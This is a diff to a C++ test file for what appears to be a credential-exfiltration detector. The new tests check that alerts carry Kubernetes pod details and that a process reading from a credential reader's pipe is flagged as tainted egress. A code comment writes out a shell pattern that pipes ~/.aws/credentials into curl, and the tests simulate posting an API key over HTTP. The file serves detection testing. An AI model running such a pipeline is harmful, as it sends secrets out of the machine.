@@ -96,10 +96,12 @@ class ProcessContextTest : public ::testing::Test {
     std::ofstream(dir / "cgroup") << "0::" << cgroup << "\n";
   }
 
-  void Exec(uint32_t pid, uint32_t ppid, uint32_t uid, const char* comm) {
+  void Exec(uint32_t pid, uint32_t ppid, uint32_t uid, const char* comm,
+            uint64_t stdin_pipe = 0) {
     cs_exec_event e{};
     e.hdr = Header(CS_EV_EXEC, pid, uid, ++ts_, comm);
     e.ppid = ppid;
+    e.stdin_pipe = stdin_pipe;
     std::snprintf(e.filename, sizeof e.filename, "/usr/bin/%s", comm);
     e.filename_len = std::strlen(e.filename);
     std::memcpy(e.args, comm, std::strlen(comm));
@@ -150,7 +152,8 @@ class ProcessContextTest : public ::testing::Test {
 
   // A credential-file open and read as the kernel reports them (cred_id = file index + 1).
   void ReadCredentialFile(uint32_t pid, const char* comm, const std::string& file_id,
-                          const char* path, const std::string& content) {
+                          const char* path, const std::string& content,
+                          uint64_t stdout_pipe = 0) {
     uint32_t cred_id = 0;
     for (size_t i = 0; i < db_->rules().files.size(); ++i) {
       if (db_->rules().files[i].id == file_id) cred_id = static_cast<uint32_t>(i + 1);
@@ -160,6 +163,7 @@ class ProcessContextTest : public ::testing::Test {
     o.hdr = Header(CS_EV_CRED_OPEN, pid, 0, ++ts_, comm);
     o.fd = 4;
     o.cred_id = cred_id;
+    o.stdout_pipe = stdout_pipe;
     std::strcpy(o.path, path);
     o.path_len = std::strlen(path);
     pipeline_->Handle(Record(o));
@@ -298,6 +302,32 @@ TEST_F(ProcessContextTest, EgressAlertCarriesCiJobUnitAndCredentialVariableNames
   EXPECT_EQ(pipeline_->Counters()["secrets_learned_from_environments"], 1u);
 }
 
+TEST_F(ProcessContextTest, EgressAndProcAccessAlertsCarryTheKubernetesPod) {
+  const std::string key = OpenAiKey();
+  const std::string pod_cgroup =
+      "/kubepods.slice/kubepods-besteffort.slice/"
+      "kubepods-besteffort-pod1b2c3d4e_5f60_7182_93a4_b5c6d7e8f901.slice/cri-containerd-" +
+      std::string(64, 'c') + ".scope";
+  FakeProc(410, 1, 0, "python3",
+           Env({"OPENAI_API_KEY=" + key, "POD_NAME=exfil-7d9f", "POD_NAMESPACE=ci-jobs"}),
+           pod_cgroup);
+  Exec(410, 1, 0, "python3");
+  PlainHttpPost(410, "python3", "{\"k\":\"" + key + "\"}");
+  ProcAccess(410, 0, "python3", 1, 0, CS_PROC_ENVIRON);
+
+  ASSERT_EQ(sink_.alerts.size(), 2u);
+  for (const auto& a : sink_.alerts) {
+    EXPECT_EQ(a.process.pod.uid, "1b2c3d4e-5f60-7182-93a4-b5c6d7e8f901") << a.kind;
+    EXPECT_EQ(a.process.pod.name, "exfil-7d9f") << a.kind;
+    EXPECT_EQ(a.process.pod.ns, "ci-jobs") << a.kind;
+    EXPECT_EQ(a.process.container, std::string(64, 'c')) << a.kind;
+  }
+  EXPECT_TRUE(
+      AnyLineContains("\"pod\":{\"name\":\"exfil-7d9f\",\"namespace\":\"ci-jobs\","
+                      "\"uid\":\"1b2c3d4e-5f60-7182-93a4-b5c6d7e8f901\"}"));
+  EXPECT_FALSE(AnyLineContains(key));
+}
+
 TEST_F(ProcessContextTest, GarbageProcAccessKindIsCountedNotFatal) {
   ProcAccess(500, 0, "x", 1, 0, 9);
   EXPECT_TRUE(sink_.alerts.empty());
@@ -325,6 +355,34 @@ TEST_F(ProcessContextTest, ChildOfACredentialReaderSendingAnywhereUnexpectedIsTa
   EXPECT_EQ(a.evidence.credential_reads[0].pid, 600u);
   EXPECT_NE(a.summary.find("sh (pid 600) read /home/u/.aws/credentials"), std::string::npos);
   EXPECT_FALSE(a.destination.expected.empty());  // *.amazonaws.com, from the file's kinds
+}
+
+TEST_F(ProcessContextTest, ProcessReadingACredentialReadersPipeIsTaintedEgress) {
+  // `(while read -r l; do echo "$l"; done < creds) | curl --data-binary @- ...`: the subshell
+  // (forked, never exec'd) opens the file with pipe 9001 as stdout; curl reads that pipe.
+  Fork(700, 701, "sh");
+  Fork(700, 702, "sh");
+  Fork(700, 703, "sh");
+  Exec(702, 700, 0, "curl", /*stdin_pipe=*/9001);
+  Exec(703, 700, 0, "curl", /*stdin_pipe=*/9002);  // another pipeline: stays clean
+  ReadCredentialFile(701, "sh", "aws-credentials", "/home/u/.aws/credentials",
+                     "[default]\nregion = eu-west-1\n", /*stdout_pipe=*/9001);
+  PlainHttpPost(702, "curl", "opaque-" + RandomToken(32));
+  PlainHttpPost(703, "curl", "opaque-" + RandomToken(32));
+  pipeline_->Housekeeping(ts_ + detect::ProvenanceOptions{}.report_delay_ns + 1);
+  auto tainted = OfKind("tainted-egress");
+  ASSERT_EQ(tainted.size(), 1u);
+  const auto& a = tainted[0];
+  EXPECT_EQ(a.process.pid, 702u);
+  ASSERT_FALSE(a.evidence.credential_reads.empty());
+  EXPECT_EQ(a.evidence.credential_reads[0].pid, 701u);
+  EXPECT_NE(a.summary.find("after sh (pid 701) read /home/u/.aws/credentials"),
+            std::string::npos)
+      << a.summary;
+  bool pipe_note = false;
+  for (const auto& n : a.evidence.notes) pipe_note |= n.find("through a pipe") != std::string::npos;
+  EXPECT_TRUE(pipe_note);
+  EXPECT_EQ(pipeline_->Counters()["tainted_pipes"], 1u);
 }
 
 TEST_F(ProcessContextTest, ExpectedDestinationOfTheFilesCredentialIsNotTainted) {
